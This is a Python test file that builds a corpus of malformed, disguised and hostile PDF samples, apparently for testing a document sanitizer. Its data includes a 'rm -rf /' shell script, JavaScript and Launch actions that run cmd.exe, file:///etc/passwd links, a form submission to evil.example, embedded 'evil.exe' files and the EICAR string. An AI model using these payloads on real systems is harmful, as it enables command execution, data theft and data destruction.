"""PDF documents of the corpus: what people send, what acts when opened, what is not a PDF at all."""

import io
import zipfile

import pikepdf

from tests.corpus import raw
from tests.corpus.pictures import EICAR, other
from tests.corpus.samples import LIMIT, sample

ANNOTATION = b"<< /Type /Annot /Subtype %s /Rect [0 0 90 90] %s >>"


def rewritten(path, **options):
    """Write an ordinary PDF through pikepdf with the options of its save."""
    with pikepdf.open(io.BytesIO(raw.pdf())) as document:
        document.save(path, **options)


def padded(size):
    """Return a PDF of exactly this many bytes."""
    spare = size
    while (document := raw.pdf(raw.stream(b"x" * spare), catalog=b"/Extra 6 0 R")) and len(document) != size:
        spare += size - len(document)
    return document


@sample("P01 exactly five mebibytes", "pdf")
def exact(_path):
    return padded(LIMIT)


@sample("P01 ordinary", "pdf")
def ordinary(_path):
    return raw.pdf()


@sample("P04 empty", "pdf", "empty")
def empty(_path):
    return b""


@sample("P05 one byte", "pdf", "unreadable")
def one_byte(_path):
    return b"%"


@sample("P05 five bytes", "pdf", "unreadable")
def five_bytes(_path):
    return b"%PDF-"


@sample("P05 eight bytes", "pdf", "unreadable", "no_page")
def eight_bytes(_path):
    return b"%PDF-1.7"


@sample("P06 header then zeros", "pdf", "unreadable", "no_page")
def zeros(_path):
    return b"%PDF-1.7\n" + bytes(500)


def archive(name, content=b"x"):
    """Return a ZIP holding one file."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as bag:
        bag.writestr(name, content)
    return output.getvalue()


def _not_a_pdf(row, code, content):
    sample(f"P09 {row} named pdf", "pdf", code)(lambda _path: content)


_not_a_pdf("docx", "is_office", archive("word/document.xml"))
_not_a_pdf("odt", "is_office", archive("mimetype", b"application/vnd.oasis.opendocument.text"))
_not_a_pdf("zip", "is_office", archive("a.txt"))
_not_a_pdf("empty zip", "is_office", b"PK\x05\x06" + bytes(18))
_not_a_pdf("rar", "is_office", b"Rar!\x1a\x07\x01\x00" + bytes(40))
_not_a_pdf("7z", "is_office", b"7z\xbc\xaf\x27\x1c" + bytes(40))
_not_a_pdf("doc", "is_office", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600))
_not_a_pdf("rtf", "is_office", rb"{\rtf1\ansi Bonjour}")
_not_a_pdf("exe", "is_program", b"MZ" + bytes(300))
_not_a_pdf("elf", "is_program", b"\x7fELF" + bytes(300))
_not_a_pdf("lnk", "is_program", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60))
_not_a_pdf("script", "is_program", b"#!/bin/sh\nrm -rf /\n")
_not_a_pdf("html", "is_web_page", b"<!DOCTYPE html><script>alert(1)</script>")
_not_a_pdf("html before a pdf", "is_web_page", b"<html><script>alert(1)</script>" + raw.pdf())
_not_a_pdf("png", "is_png", other("PNG"))
_not_a_pdf("text", "unreadable", b"Bonjour, voici mon CV.")


@sample("P11 then a script", "pdf")
def then_script(_path):
    return raw.pdf() + b"</html><script>alert(1)</script>"


@sample("P12 then a zip", "pdf")
def then_archive(_path):
    return raw.pdf() + archive("evil.exe", b"MZ")


@sample("P12 that is also a zip", "pdf")
def also_archive(_path):
    output = io.BytesIO(raw.pdf())
    with zipfile.ZipFile(output, "a") as bag:
        bag.writestr("evil.exe", b"MZ")
    return output.getvalue()


@sample("P13 gif first", "pdf", "is_other_picture")
def gif_first(_path):
    return b"GIF89a" + raw.pdf()


@sample("P13 two hundred bytes late", "pdf", "unreadable", "is_web_page")
def late(_path):
    return b" " * 200 + raw.pdf()


@sample("P14 javascript everywhere", "pdf")
def javascript(_path):
    script = b"<< /S /JavaScript /JS (app.alert('SECRET')) >>"
    return raw.pdf(
        b"<< /Names [(a) %s] >>" % script,
        catalog=b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript 6 0 R >>" % (script, script),
        page=b"/AA << /O %s >> /Annots [%s]" % (script, ANNOTATION % (b"/Link", b"/A %s /AA << /E %s >>" % (script, script))),
    )


@sample("P15 links", "pdf")
def links(_path):
    targets = [b"javascript:alert(1)", b"file:///etc/passwd", b" JavaScript:alert(1)", b"https://example.org/ok"]
    notes = b" ".join(ANNOTATION % (b"/Link", b"/A << /S /URI /URI (%s) >>" % target) for target in targets)
    return raw.pdf(page=b"/Annots [%s]" % notes, catalog=b"/URI << /Base (javascript:alert\\(2\\)) >>")


@sample("P19 user password", "pdf", "has_password")
def user_password(path):
    rewritten(path, encryption=pikepdf.Encryption(user="secret", owner="other"))


@sample("P20 owner password", "pdf")
def owner_password(path):
    nothing = pikepdf.Permissions(print_lowres=False, print_highres=False, extract=False, modify_other=False)
    rewritten(path, encryption=pikepdf.Encryption(user="", owner="other", allow=nothing))


@sample("P20 owner password, forty bits", "pdf")
def old_owner_password(path):
    rewritten(path, encryption=pikepdf.Encryption(user="", owner="other", R=2, aes=False, metadata=False))


@sample("P21 no page", "pdf", "no_page")
def no_page(_path):
    return raw.write([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


@sample("P22 table of objects lost", "pdf", warnings=["damaged"])
def damaged(_path):
    return raw.pdf().replace(b"xref", b"%%%%").replace(b"trailer", b"%%%%%%%")


@sample("P22 end lost", "pdf", warnings=["damaged"])
def end_lost(_path):
    return raw.pdf().split(b"xref")[0]


@sample("P22 cut in its middle", "pdf", "no_page", "unreadable")
def cut(_path):
    return raw.pdf()[:90]


@sample("P23 two hundred pages", "pdf")
def two_hundred(path):
    document = pikepdf.open(io.BytesIO(raw.pdf()))
    for _ in range(199):
        document.pages.append(document.pages[0])
    document.save(path)


ACTIONS = {
    b"/Launch": b"/F (cmd.exe) /Win << /F (cmd.exe) /P (SECRET) >>",
    b"/SubmitForm": b"/F << /FS /URL /F (https://evil.example/SECRET) >>",
    b"/ImportData": b"/F (SECRET.fdf)",
    b"/GoToR": b"/F (SECRET.pdf) /D [0 /Fit]",
    b"/GoToE": b"/T << /R /C /N (SECRET) >>",
    b"/Rendition": b"/OP 0 /R << /S /MR /N (SECRET) >>",
    b"/Movie": b"/T (SECRET)",
    b"/Sound": b"/Sound << >>",
    b"/Unknown": b"/F (SECRET)",
}


@sample("P24 actions", "pdf")
def actions(_path):
    notes = b" ".join(ANNOTATION % (b"/Link", b"/A << /S %s %s >>" % one) for one in ACTIONS.items())
    chain = b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /F (SECRET) >> << /S /URI /URI (javascript:SECRET) >>] >>"
    return raw.pdf(page=b"/Annots [%s %s]" % (notes, ANNOTATION % (b"/Link", b"/A " + chain)))


@sample("P24 actions in disguise", "pdf")
def disguised(_path):
    launch = b"<< /S /L#61unch /K 0 /F (SECRET) >>"
    outlines = b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>"
    entry = b"<< /Title (x) /Parent 7 0 R /A 6 0 R >>"
    return raw.pdf(launch, outlines, entry, catalog=b"/Outlines 7 0 R", page=b"/Annots [%s]" % (ANNOTATION % (b"/Link", b"/A 6 0 R")))


@sample("P25 embedded program", "pdf")
def embedded(_path):
    names = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> /AF [6 0 R]"
    note = ANNOTATION % (b"/FileAttachment", b"/FS 6 0 R")
    specification = b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>"
    return raw.pdf(specification, raw.stream(b"MZ SECRET PROGRAM"), catalog=names + b" /Other 6 0 R", page=b"/Annots [%s]" % note)


@sample("P25 portfolio", "pdf", "is_portfolio")
def portfolio(_path):
    return raw.pdf(catalog=b"/Collection << /View /D >>")


def form_pdf(extra=b""):
    """Return a PDF with a text field filled with capital letters, without the appearance that a viewer would draw."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (MMMMMMMM) /DA (/F1 24 Tf 0 g) /Rect [72 400 400 440] /F 4 /P 3 0 R >>"
    form = b"/AcroForm << /Fields [6 0 R] /NeedAppearances true /DR << /Font << /F1 5 0 R >> >> /DA (/F1 24 Tf 0 g) %s >>" % extra
    return raw.pdf(field, raw.stream(b"<xdp>SECRET</xdp>"), catalog=form, page=b"/Annots [6 0 R]", content=raw.stream(b"q Q"))


@sample("P27 filled form", "pdf")
def filled_form(_path):
    return form_pdf()


@sample("P27 dynamic form", "pdf")
def dynamic_form(_path):
    return form_pdf(b"/XFA [(template) 7 0 R]")


@sample("P28 media", "pdf")
def media(_path):
    kinds = (b"/RichMedia", b"/Screen", b"/Movie", b"/Sound", b"/3D", b"/FileAttachment")
    notes = b" ".join(ANNOTATION % (kind, b"/Contents (SECRET)") for kind in kinds)
    return raw.pdf(page=b"/Annots [%s]" % notes)


@sample("P29 signed", "pdf", warnings=["signature_not_kept"])
def signed(_path):
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 19 9] /Contents <00ff> >>"
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V 7 0 R /Rect [0 0 0 0] /F 4 /P 3 0 R >>"
    return raw.pdf(field, value, catalog=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>", page=b"/Annots [6 0 R]")


@sample("P29 field to sign, empty", "pdf")
def unsigned(_path):
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /F 4 /P 3 0 R >>"
    return raw.pdf(field, catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]")


@sample("P30 earlier revision", "pdf")
def revised(_path):
    return raw.update(raw.pdf(content=raw.stream(raw.text(b"SECRET earlier"))), 4, raw.stream(raw.text(b"later")))


@sample("P34 metadata", "pdf")
def metadata(_path):
    xmp = raw.stream(b"<x:xmpmeta>SECRET</x:xmpmeta>", b"/Type /Metadata /Subtype /XML")
    information = b"<< /Author (SECRET) /Producer (SECRET) >>"
    return raw.pdf(
        xmp, information, catalog=b"/Metadata 6 0 R", page=b"/PieceInfo << /X << /Private (SECRET) >> >>", trailer=b"/Info 7 0 R"
    )


@sample("P35 version 2.0", "pdf")
def version_two(_path):
    return raw.pdf(version=b"2.0")


@sample("P35 oddly sized page", "pdf")
def odd_page(_path):
    return raw.pdf(page=b"/Rotate 90 /UserUnit 10").replace(b"[0 0 595 842]", b"[0 0 14400 9]")


@sample("P39 EICAR named pdf", "pdf", "unreadable")
def test_virus(_path):
    return EICAR


@sample("P39 EICAR unreachable in a pdf", "pdf")
def hidden_virus(_path):
    return raw.pdf(raw.stream(EICAR))


@sample("P47 blank page", "pdf", warnings=["looks_empty"])
def blank(_path):
    return raw.pdf(content=raw.stream(b"q Q"))


def over_limit():
    """Return a PDF one byte over the limit (refused by its size, before any parse)."""
    return padded(LIMIT + 1)
